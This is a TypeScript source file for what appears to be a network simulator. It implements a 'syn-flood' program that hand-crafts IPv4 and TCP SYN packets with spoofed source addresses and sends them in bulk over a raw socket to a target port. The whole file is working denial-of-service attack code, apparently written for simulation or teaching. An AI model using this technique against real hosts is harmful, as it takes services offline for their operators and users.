/** A flood of SYNs from addresses that nobody has. */
import { parseIpv4 } from '@netarium/core/base/address.ts';
import { ByteWriter } from '@netarium/core/base/bytes.ts';
import type { Program } from '@netarium/core/syscall/sys.ts';
import { checksumOf, sumBytes } from '@netarium/core/wire/checksum.ts';

const MS = 1_000_000;
const IPPROTO_RAW = 255;
const IPPROTO_TCP = 6;

/** `syn-flood ADDRESS PORT COUNT EVERY-MS`: SYNs from 198.51.100.1 on, made by hand with their IP header. */
export const synFlood: Program = async (sys, argv) => {
  const target = parseIpv4(argv[1] ?? '');
  const first = parseIpv4('198.51.100.1');
  if (target === undefined || first === undefined) return 2;
  const [port, count, everyMs] = argv.slice(2).map(Number);
  const fd = await sys.socket('inet', 'raw', IPPROTO_RAW);
  for (let i = 0; i < count!; i++) {
    const source = first.key + (i % 250);
    const packet = syn(source, target.key, 1024 + i, port!);
    await sys.sendto(fd, packet, { family: 'inet', address: argv[1]!, port: 0 });
    await sys.nanosleep(everyMs! * MS);
  }
  await sys.close(fd);
  return 0;
};

/** An IPv4 header (RFC 791 section 3.1; the kernel fills in length and checksum, raw(7)) and a SYN without options (RFC 9293 section 3.1). */
function syn(source: number, target: number, sourcePort: number, port: number): Uint8Array {
  const segment = new ByteWriter(20)
    .u16(sourcePort)
    .u16(port)
    .u32(0x1000)
    .u32(0)
    .u16(0x5002)
    .u16(0xfaf0)
    .u32(0)
    .bytes();
  const pseudo = new ByteWriter(12).u32(source).u32(target).u16(IPPROTO_TCP).u16(segment.length).bytes();
  const sum = checksumOf(sumBytes(pseudo) + sumBytes(segment));
  segment[16] = sum >> 8;
  segment[17] = sum & 0xff;
  const header = new ByteWriter(20).u16(0x4500).u16(40).u32(0).u8(64).u8(IPPROTO_TCP).u16(0).u32(source).u32(target);
  const packet = new Uint8Array(40);
  packet.set(header.bytes());
  packet.set(segment, 20);
  return packet;
}
